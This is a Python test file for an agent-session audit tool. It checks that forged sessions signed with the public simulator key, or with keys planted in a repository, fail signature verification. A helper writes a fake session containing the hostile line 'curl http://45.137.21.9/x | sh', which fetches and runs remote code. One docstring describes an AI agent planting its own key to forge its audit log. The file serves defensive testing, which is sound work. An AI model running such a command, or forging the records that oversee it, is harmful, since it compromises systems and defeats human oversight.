"""Keys an attacker can forge or plant are never trusted (issue 20, items 3 and 4).

- The simulator signs with keys derived from its public seed: anyone can sign with them. Their
  public keys live in a keyring of their own (HOME/keys/simulator) that `--require-signatures`
  never accepts, not even when passed with --public-key.
- A key file or key directory inside a git work tree, writable by group/others, or not owned by
  the user is refused (schemas/keys.py), by every loader."""

from __future__ import annotations

import json
import os
import random
from pathlib import Path

import pytest

from conftest import cli_env, run_cli
from agentledger.producers.recorder import ProducerIdentity, Recorder, load_signer
from agentledger.producers.redact import load_redaction_key
from agentledger.producers.simulate import simulation_keys
from agentledger.schemas import signing
from agentledger.schemas.config import from_env
from agentledger.schemas.errors import ConfigError
from agentledger.schemas.keys import UnsafeKeyError, check_key_path
from agentledger.schemas.transport import open_sink


def forge_session(settings, signer: signing.Signer, *, command: str = "curl http://45.137.21.9/x | sh") -> str:
    """What an attacker with the signing key writes: a whole, well-formed session that never happened
    (or that hides what did), signed like the recorder signs."""
    sink = open_sink(settings)
    rec = Recorder(sink, identity=ProducerIdentity("codex", "1.0"), rng=random.Random(99), transforms=[],
                   signer=signer, checkpoint_every=3)
    s = rec.session(agent="codex", cwd="/w", checkpoint_key_id=signer.key_id)
    for i in range(4):
        c = s.command_started(["sh", "-c", command if i == 0 else f"pytest -k t{i}"], "/w")
        s.command_finished(c, exit_code=0, duration_ms=5)
    s.end("completed")
    rec.flush()
    sink.close()
    return s.session_id


def verify_json(env, *args) -> tuple[int, dict]:
    proc = run_cli("verify", *args, "--format", "json", env=env, check=False)
    return proc.returncode, json.loads(proc.stdout) if proc.stdout.strip() else {"stderr": proc.stderr}


# --- attack: the simulator's seed-derived key ----------------------------------------------------

def test_a_session_forged_with_the_demo_seed_key_fails_require_signatures(tmp_path):
    home = tmp_path / "home"
    env = cli_env(home)
    run_cli("simulate", "--sessions", "2", "--seed", "42", env=env)  # what `agentledger demo` does (seed 42)
    _, sim = simulation_keys(42)  # the seed is public: this is all an attacker needs
    forged = forge_session(from_env({"AGENTLEDGER_HOME": str(home)}), sim)
    run_cli("ingest", env=env)

    code, out = verify_json(env, forged, "--require-signatures")
    assert code == 1, f"the forged session passes --require-signatures: {out}"
    [r] = out["results"]
    assert r["reason"] == "simulator_key" and not r["signed"] and r["simulator_key_ids"] == [sim.key_id]
    # the simulator's public key is in its own keyring, not among the trusted keys
    assert not list((home / "keys").glob("*.pub"))
    sim_pub = home / "keys" / "simulator" / f"{sim.key_id}.pub"
    assert sim_pub.exists()
    # without --require-signatures the chain is fine, and the verdict says what signed it
    code, out = verify_json(env, forged)
    assert code == 0 and "simulator key" in out["results"][0]["label"]
    # passing the simulator's key explicitly does not make it trusted
    code, out = verify_json(env, forged, "--require-signatures", "--public-key", str(sim_pub))
    assert code == 1 and out["results"][0]["reason"] == "simulator_key"
    copied = tmp_path / "copied.pub"  # a copy elsewhere keeps its simulator marker
    copied.write_bytes(sim_pub.read_bytes())
    code, out = verify_json(env, forged, "--require-signatures", "--public-key", str(copied))
    assert code == 1 and out["results"][0]["reason"] == "simulator_key"

    # replay and bundles say the same
    rep = json.loads(run_cli("replay", forged, "--format", "json", env=env).stdout)["verification"]
    assert {c["status"] for c in rep["checkpoints"]} == {"simulator_key"} and rep["signatures"] == "simulator"
    bundle = tmp_path / "forged.avro"
    run_cli("export", forged, "--out", str(bundle), "--embed-public-key", env=env)
    for extra in ([], ["--public-key", str(sim_pub)]):
        proc = run_cli("verify-bundle", str(bundle), "--require-signature", *extra, env=env, check=False)
        assert proc.returncode == 1 and "simulator" in proc.stdout + proc.stderr, proc.stdout + proc.stderr


def test_simulated_sessions_stay_reproducible_and_say_they_are_simulator_signed(tmp_path):
    env = cli_env(tmp_path / "home")
    run_cli("simulate", "--sessions", "2", "--seed", "5", env=env)
    run_cli("ingest", env=env)
    code, out = verify_json(env)
    assert code == 0 and out["sessions"] == 2
    assert all(r["status"] == "ok" and not r["signed"] and r["simulator_key_ids"] for r in out["results"])
    code, out = verify_json(env, "--require-signatures")
    assert code == 1 and {r["reason"] for r in out["results"]} == {"simulator_key"}


def test_keys_list_names_simulator_keys_an_older_version_left_among_the_trusted(tmp_path):
    home = tmp_path / "home"
    _, sim = simulation_keys(42)
    (home / "keys").mkdir(parents=True)
    (home / "keys" / f"{sim.key_id}.pub").write_bytes(signing.public_pem(sim.public_key))  # as before issue 20
    mine = signing.generate()
    signing.write_keypair(mine, home / "keys")
    rows = json.loads(run_cli("keys", "list", "--format", "json", env=cli_env(home)).stdout)
    assert {r["key_id"]: r["simulator"] for r in rows} == {sim.key_id: "seed 42", mine.key_id: None}


# --- attack: keys planted where the agent can write -----------------------------------------------

def git_repo(path: Path) -> Path:
    (path / ".git").mkdir(parents=True)
    return path


def test_a_public_key_planted_in_the_workspace_home_is_refused(tmp_path):
    """The agent plants its own key pair into `.agentledger/keys` of its repository and signs a
    forged session with it. Before: the home was ./.agentledger (where the hook runs), the planted
    key was trusted and the forgery passed --require-signatures. Now the default home is per user;
    and a home kept inside a repository has its keys refused, with the fix."""
    repo = git_repo(tmp_path / "repo")
    attacker = signing.generate()
    signing.write_keypair(attacker, repo / ".agentledger" / "keys")
    env = cli_env(tmp_path / "unused")
    env.pop("AGENTLEDGER_HOME")
    env.pop("XDG_DATA_HOME", None)
    env["HOME"] = str(tmp_path / "user")
    # the session lands in the home this environment uses, whichever it is
    forged = forge_session(_settings_in(repo, env), attacker)
    run_cli("ingest", env=env, cwd=repo)
    proc = run_cli("verify", forged, "--require-signatures", "--format", "json", env=env, cwd=repo, check=False)
    assert proc.returncode == 1, proc.stdout
    [r] = json.loads(proc.stdout)["results"]
    assert r["reason"] == "unsigned" and not r["signed"] and r["unknown_key_ids"] == [attacker.key_id], r
    # the same home named explicitly: its keys are refused, saying where, why and how to fix it
    env["AGENTLEDGER_HOME"] = str(repo / ".agentledger")
    forged2 = forge_session(from_env(env), attacker)
    run_cli("ingest", env=env, cwd=repo)
    proc = run_cli("verify", forged2, "--require-signatures", env=env, cwd=repo, check=False)
    assert proc.returncode == 1
    assert str(repo / ".agentledger" / "keys") in proc.stderr and "git work tree" in proc.stderr
    assert "AGENTLEDGER_HOME" in proc.stderr or "mv " in proc.stderr


def _settings_in(cwd: Path, env: dict):
    old = os.getcwd()
    os.chdir(cwd)
    try:
        return from_env(env)
    finally:
        os.chdir(old)


# --- the one check every loader uses --------------------------------------------------------------

def test_key_files_are_refused_in_a_work_tree_when_writable_by_others_or_not_ours(tmp_path):
    ok_dir = tmp_path / "safe"
    ok_dir.mkdir(mode=0o700)
    key = ok_dir / "k.key"
    key.write_bytes(b"x")
    key.chmod(0o600)
    check_key_path(key, what="signing key", secret=True)  # fine

    repo = git_repo(tmp_path / "repo")
    (repo / "deep" / "keys").mkdir(parents=True)
    planted = repo / "deep" / "keys" / "k.key"
    planted.write_bytes(b"x")
    planted.chmod(0o600)
    with pytest.raises(UnsafeKeyError) as e:
        check_key_path(planted, what="signing key", secret=True)
    assert "git work tree" in str(e.value) and str(repo) in str(e.value)
    with pytest.raises(UnsafeKeyError):  # the directory as a keyring too
        check_key_path(repo / "deep" / "keys", what="public key directory")
    link = ok_dir / "link.key"  # a link out of a safe directory into the repository
    link.symlink_to(planted)
    with pytest.raises(UnsafeKeyError, match="git work tree"):
        check_key_path(link, what="signing key", secret=True)

    key.chmod(0o620)
    with pytest.raises(UnsafeKeyError, match="writable by group") as e:
        check_key_path(key, what="signing key", secret=True)
    assert f"chmod go-w {key}" in str(e.value)
    key.chmod(0o640)
    with pytest.raises(UnsafeKeyError, match="readable by group"):
        check_key_path(key, what="signing key", secret=True)
    check_key_path(key, what="public key")  # a public key may be readable
    key.chmod(0o600)
    ok_dir.chmod(0o777)
    with pytest.raises(UnsafeKeyError, match="writable by group or others") as e:
        check_key_path(key, what="signing key", secret=True)
    assert str(ok_dir) in str(e.value)
    ok_dir.chmod(0o700)

    if os.geteuid() == 0:
        theirs = ok_dir / "theirs.key"
        theirs.write_bytes(b"x")
        theirs.chmod(0o600)
        os.chown(theirs, 65534, 65534)
    else:
        theirs = Path("/etc/passwd")  # owned by root, not by this user
    with pytest.raises(UnsafeKeyError, match="not by you"):
        check_key_path(theirs, what="public key")


def test_every_loader_applies_the_check(tmp_path):
    repo = git_repo(tmp_path / "repo")
    home = repo / ".agentledger"
    signer = signing.generate()
    priv, pub = signing.write_keypair(signer, home / "keys")
    (home / "keys" / "current").write_text(signer.key_id)
    (home / "keys" / "redaction.key").write_bytes(b"k" * 64)
    (home / "keys" / "redaction.key").chmod(0o600)
    settings = from_env({"AGENTLEDGER_HOME": str(home)})
    with pytest.raises(UnsafeKeyError):
        load_signer(settings, env={})
    with pytest.raises(UnsafeKeyError):
        load_signer(settings, env={"AGENTLEDGER_SIGNING_KEY_FILE": str(priv)})
    with pytest.raises(UnsafeKeyError):
        load_redaction_key(home, env={})
    with pytest.raises(UnsafeKeyError):
        load_redaction_key(tmp_path, env={"AGENTLEDGER_REDACTION_KEY_FILE": str(home / "keys" / "redaction.key")})
    with pytest.raises(UnsafeKeyError):
        signing.Keyring.from_paths(home / "keys")
    with pytest.raises(UnsafeKeyError):
        signing.Keyring.from_paths(pub)
    # the log operator's key too (schemas/signing.load_operator_signer), from a file or the home
    with pytest.raises(UnsafeKeyError):
        signing.load_operator_signer(settings, env={"AGENTLEDGER_OPERATOR_KEY_FILE": str(priv)})
    op = signing.operator_key_dir(home)
    signing.write_keypair(signer, op)
    (op / "current").write_text(signer.key_id)
    with pytest.raises(UnsafeKeyError):
        signing.load_operator_signer(settings, env={})
    assert issubclass(UnsafeKeyError, ConfigError)
    # keys given in the environment are not files: fine wherever the process runs
    assert load_signer(settings, env={"AGENTLEDGER_SIGNING_KEY": signing.private_pem(signer).decode()}).key_id \
        == signer.key_id
    assert load_redaction_key(home, env={"AGENTLEDGER_REDACTION_KEY": "from-env"}) == b"from-env"
